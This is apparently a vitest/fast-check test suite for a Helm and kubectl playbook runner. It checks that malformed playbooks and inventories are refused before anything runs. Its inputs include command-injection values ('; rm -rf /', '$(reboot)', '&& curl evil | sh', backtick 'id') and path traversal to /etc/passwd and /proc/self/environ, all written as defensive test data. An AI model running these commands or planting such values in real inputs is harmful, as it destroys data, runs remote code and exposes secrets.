import fc from 'fast-check';
import { writeFile } from 'node:fs/promises';
import { parseDocument } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runApp } from '../helpers/run-app.js';

const basePlaybook = `name: base
vars:
  namespace: jhub
steps:
  - name: deploy
    helm.release: {release: jhub, chart: jupyterhub/jupyterhub, namespace: "{{ namespace }}", version: 4.2.0, timeout: 10m}
  - name: wait
    kubectl.wait: {kind: deployment, name: hub, namespace: jhub, for: rollout, timeout: 60}
  - name: edit
    manifest.edit:
      path: "{{ playbook_dir }}/x.yaml"
      ops:
        - set: a.b
          value: 1
  - name: run
    command: {argv: [/bin/true]}
`;
const baseInventory = `site_name: fuzz
state_dir: "{{ inventory_dir }}/.state"
namespace: jhub
`;

let dir: string;
let cases = 0;

/** Every bad input: exit 3, a message located at file:line:col, no stack trace, no process started. */
async function expectRejected(playbook: string, inventory = baseInventory, extra: string[] = []): Promise<void> {
  cases += 1;
  await writeFile(`${dir}/p.yml`, playbook);
  await writeFile(`${dir}/site.yml`, inventory);
  const run = await runApp([`${dir}/p.yml`, '-i', `${dir}/site.yml`, '--dry-run', ...extra]);
  const context = `playbook:\n${playbook}\ninventory:\n${inventory}\nstderr:\n${run.stderr}`;
  expect(run.code, context).toBe(3);
  expect(run.stderr, context).toMatch(/^error: \/[^:]+:\d+:\d+: /m);
  expect(run.stderr, context).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
  expect(run.runner.calls, context).toEqual([]);
}

function edited(text: string, edit: (document: ReturnType<typeof parseDocument>) => void): string {
  const document = parseDocument(text);
  edit(document);
  return document.toString();
}

const stepPaths = [
  ['steps', 0, 'helm.release'],
  ['steps', 1, 'kubectl.wait'],
  ['steps', 2, 'manifest.edit'],
  ['steps', 3, 'command'],
] as const;

const runs = { numRuns: 50, seed: 20261124 };

beforeAll(async () => {
  const { mkdtemp } = await import('node:fs/promises');
  dir = await mkdtemp(`${(await import('node:os')).tmpdir()}/bad-input-`);
  await writeFile(`${dir}/x.yaml`, 'a: {}\n');
});

afterAll(async () => {
  await (await import('node:fs/promises')).rm(dir, { recursive: true, force: true });
  expect(cases).toBeGreaterThanOrEqual(300);
});

describe('bad playbooks and inventories are refused before anything runs', () => {
  it('accepts the unmutated base, so each mutation is what makes an input bad', async () => {
    await writeFile(`${dir}/p.yml`, basePlaybook);
    await writeFile(`${dir}/site.yml`, baseInventory);
    const run = await runApp([`${dir}/p.yml`, '-i', `${dir}/site.yml`, '--dry-run']);
    expect(run.code, run.stderr + run.stdout).toBe(0);
  });

  it('handwritten cases', async () => {
    const handwritten = [
      '',
      '- just\n- a list\n',
      'name: x\n',
      'name: x\nsteps: {}\n',
      'name: x\nsteps: []\n',
      'name: x\nsteps:\n  - name: a\n',
      'name: x\nsteps:\n  - name: a\n    helm.relase: {release: jhub, chart: c, namespace: jhub}\n',
      'name: x\nsteps:\n  - name: a\n    command: {argv: [true]}\n    helm.repo: {name: a, url: b}\n',
      'name: x\nsteps:\n  - name: a\n    command: {argv: [/bin/true]}\n    whn: "true"\n',
      'name: x\nsteps:\n  - nme: a\n    command: {argv: [/bin/true]}\n',
      'name: x\nsteps:\n  - name: a\n    command: {argv: [/bin/true]}\n    tags: release\n',
      'name: x\nsteps:\n  - name: a\n    command: {argv: [/bin/true]}\n    retries: -1\n',
      'name: x\nvars: [a]\nsteps:\n  - name: a\n    command: {argv: [/bin/true]}\n',
      'name: x\nsteps:\n  - name: a\n    command: {argv: ["{{ missing }}"]}\n',
      'name: x\nsteps:\n  - name: a\n    command: {argv: ["{{ unclosed "]}\n',
      'name: x\nsteps:\n  - name: a\n    command: {argv: ["{{ site | nosuchfilter }}"]}\n',
      'name: x\nsteps:\n  - name: a\n    command: {argv: [/bin/true]}\n    when: "site =="\n',
      'name: x\nsteps:\n  - name: a\n    import_playbook: ../../../../../../etc/passwd\n',
      'name: x\nsteps:\n  - name: a\n    import_playbook: /dev/null\n',
      'name: x\nsteps:\n  - name: a\n    import_playbook: does-not-exist.yml\n',
      'name: x\nsteps:\n  - name: a\n    import_playbook: p.yml\n',
      'name: x\nsteps:\n  - name: a\n    kubectl.delete: {kind: "pv; rm -rf /", name: x}\n',
      'name: x\nsteps:\n  - name: a\n    helm.uninstall: {release: "$(reboot)", namespace: jhub}\n',
      'name: x\nsteps:\n  - name: a\n    helm.uninstall: {release: jhub, namespace: "jhub && curl evil | sh"}\n',
      'name: x\nsteps:\n  - name: a\n    kubectl.tls_secret: {name: "`id`", namespace: jhub, cert: c, key: k}\n',
      'name: x\nsteps:\n  - name: a\n    terraform.apply: {vars: {"a; b": 1}}\n',
      'name: x\nsteps:\n\t- name: a\n',
      'name: x\nname: y\nsteps: []\n',
      'name: x\nsteps:\n  - name: a\n    command: {argv: [/bin/true]\n',
      'name: "x\nsteps: []\n',
    ];
    for (const playbook of handwritten) await expectRejected(playbook);
    for (const inventory of [
      '- a\n- b\n',
      'site_name: [\n',
      'a: 1\na: 2\n',
      'namespace: "{{ nope }}"\n',
      'namespace: "jhub; reboot"\n',
      'sandbox: {prot: 1}\n',
      'sandbox: {port: "eighty"}\n',
      'sandbox: {toolchain: v99}\n',
      'sandbox: {seed: {users: 2, servers: 3}}\n',
    ]) {
      await expectRejected(basePlaybook, inventory);
    }
  });

  it('wrong types for known arguments (fast-check)', async () => {
    const wrong = fc.oneof(
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
      fc.array(fc.integer(), { minLength: 1, maxLength: 3 }),
      fc.dictionary(fc.stringMatching(/^[a-z]{1,5}$/), fc.integer(), { minKeys: 1, maxKeys: 2 }),
    );
    const targets = fc.constantFrom(
      ['steps', 0, 'helm.release', 'release'],
      ['steps', 0, 'helm.release', 'chart'],
      ['steps', 1, 'kubectl.wait', 'for'],
      ['steps', 2, 'manifest.edit', 'ops'],
      ['steps', 3, 'command', 'argv'],
      ['steps', 0, 'name'],
      ['steps', 1, 'tags'],
      ['name'],
    );
    await fc.assert(
      fc.asyncProperty(targets, wrong, async (path, value) => {
        // A list of strings is a valid argv and tags; give those a list holding a map instead.
        const bad =
          (path.at(-1) === 'argv' || path.at(-1) === 'tags') && Array.isArray(value)
            ? [{ x: 1 }]
            : path.at(-1) === 'ops' && !Array.isArray(value)
              ? value
              : path.at(-1) === 'ops'
                ? [value]
                : value;
        await expectRejected(edited(basePlaybook, (document) => document.setIn(path, bad)));
      }),
      runs,
    );
  });

  it('unknown keys at the top, in a step and in plugin arguments (fast-check)', async () => {
    const known = new Set([
      'name',
      'vars',
      'steps',
      'tags',
      'when',
      'register',
      'until',
      'retries',
      'delay',
      'changed_when',
      'failed_when',
      'release',
      'chart',
      'version',
      'namespace',
      'timeout',
      'kind',
      'for',
      'path',
      'ops',
      'argv',
      'interval',
      'selector',
      'dest',
      'each',
      'values',
      'wait',
      'binary',
      'kubeconfig',
      'context',
      'creates',
      'chdir',
      'env',
      'stdin',
      'values_files',
      'create_namespace',
      'import_playbook',
      'description',
      'hosts',
      'ignore_errors',
    ]);
    const key = fc.stringMatching(/^[a-z][a-z_]{2,12}$/).filter((name) => !known.has(name) && !name.includes('.'));
    const where = fc.constantFrom<(string | number)[]>(
      [],
      ['steps', 0],
      ['steps', 2],
      ...stepPaths.map((path) => [...path]),
    );
    await fc.assert(
      fc.asyncProperty(where, key, async (path, name) => {
        await expectRejected(edited(basePlaybook, (document) => document.setIn([...path, name], 'x')));
      }),
      runs,
    );
  });

  it('broken YAML (fast-check)', async () => {
    const lines = basePlaybook.trimEnd().split('\n');
    const indented = lines.flatMap((line, index) => (/^ +\S/.test(line) ? [index] : []));
    const breakLine = fc.oneof(
      fc
        .constantFrom(...indented)
        .map((index) => lines.map((line, at) => (at === index ? line.replace(/^ +/, '\t') : line))),
      fc
        .constantFrom(...lines.keys())
        .map((index) =>
          lines.map((line, at) =>
            at === index && line.includes(': ')
              ? line.replace(/: .*$/, ': "unterminated')
              : at === index
                ? `${line} ]`
                : line,
          ),
        ),
      fc
        .constantFrom(...lines.keys())
        .map((index) =>
          lines.map((line, at) =>
            at === index && line.includes(': ') ? line.replace(/: .*$/, ': {a: 1') : at === index ? `${line} {` : line,
          ),
        ),
      fc
        .constantFrom(...lines.keys())
        .map((index) => [
          ...lines.slice(0, index + 1),
          lines[index]!.includes(': ') ? lines[index]! : `${lines[index]!} }`,
          ...lines.slice(index + 1),
        ]),
    );
    await fc.assert(
      fc.asyncProperty(breakLine, async (broken) => {
        await expectRejected(`${broken.join('\n')}\n`);
      }),
      runs,
    );
  });

  it('bad templates (fast-check)', async () => {
    const template = fc.oneof(
      fc.constantFrom(
        '{{ unclosed',
        '{{ namespace | nosuchfilter }}',
        '{% if %}x{% endif %}',
        '{{ 1 + }}',
        '{{ namespace.deeper.still }}',
        '{{ }}',
        '{% for %}',
      ),
      fc
        .stringMatching(/^[a-z][a-z_]{2,10}$/)
        .filter(
          (name) =>
            !['namespace', 'playbook_dir', 'inventory_dir', 'site', 'run_id', 'site_name', 'state_dir'].includes(
              name,
            ) && !name.endsWith('_binary'),
        )
        .map((name) => `{{ ${name} }}`),
    );
    const target = fc.constantFrom(
      ['steps', 0, 'helm.release', 'chart'],
      ['steps', 1, 'kubectl.wait', 'name'],
      ['steps', 2, 'manifest.edit', 'path'],
      ['steps', 3, 'command', 'argv', 0],
      ['steps', 1, 'when'],
    );
    await fc.assert(
      fc.asyncProperty(target, template, async (path, value) => {
        await expectRejected(edited(basePlaybook, (document) => document.setIn(path, value)));
      }),
      runs,
    );
  });

  it('shell metacharacters where only names are allowed, and path traversal in imports (fast-check)', async () => {
    const hostile = fc
      .tuple(
        fc.stringMatching(/^[a-z]{1,6}$/),
        fc.constantFrom(
          '; rm -rf /',
          '$(reboot)',
          '`id`',
          ' && curl x | sh',
          ' > /etc/passwd',
          '|tee',
          "'",
          '"',
          '\\n',
          ' *',
        ),
      )
      .map(([word, tail]) => `${word}${tail}`);
    const target = fc.constantFrom(
      ['steps', 0, 'helm.release', 'release'],
      ['steps', 0, 'helm.release', 'namespace'],
      ['steps', 1, 'kubectl.wait', 'namespace'],
      ['steps', 1, 'kubectl.wait', 'kind'],
      ['steps', 1, 'kubectl.wait', 'name'],
      ['steps', 0, 'helm.release', 'timeout'],
      ['steps', 1, 'kubectl.wait', 'selector'],
    );
    await fc.assert(
      fc.asyncProperty(target, hostile, async (path, value) => {
        await expectRejected(edited(basePlaybook, (document) => document.setIn(path, value)));
      }),
      runs,
    );
    const traversal = fc
      .tuple(
        fc.integer({ min: 1, max: 8 }),
        fc.constantFrom('etc/passwd', 'etc/hostname', 'proc/self/environ', 'nonexistent.yml', 'dev/null'),
      )
      .map(([depth, target]) => `${'../'.repeat(depth)}${target}`);
    await fc.assert(
      fc.asyncProperty(traversal, async (path) => {
        await expectRejected(`name: x\nsteps:\n  - name: imported\n    import_playbook: ${path}\n`);
      }),
      { numRuns: 30, seed: 20261124 },
    );
  });

  it('bad inventories (fast-check)', async () => {
    const inventory = fc.oneof(
      fc.stringMatching(/^[a-z]{1,6}$/).map((word) => `namespace: "${word}; reboot"\n`),
      fc
        .stringMatching(/^[a-z][a-z_]{2,10}$/)
        .filter((name) => !['namespace', 'site', 'run_id'].includes(name))
        .map((name) => `site_name: fuzz\nnamespace: "{{ ${name} }}"\n`),
      fc.constantFrom(
        'site_name: fuzz\n\tnamespace: jhub\n',
        'site_name: [fuzz\n',
        'namespace: jhub\nnamespace: other\n',
        '- not\n- a map\n',
        'sandbox: {seed: {users: -1}}\n',
        'sandbox: [1]\n',
      ),
    );
    await fc.assert(
      fc.asyncProperty(inventory, async (text) => {
        await expectRejected(basePlaybook, text);
      }),
      runs,
    );
  });
});
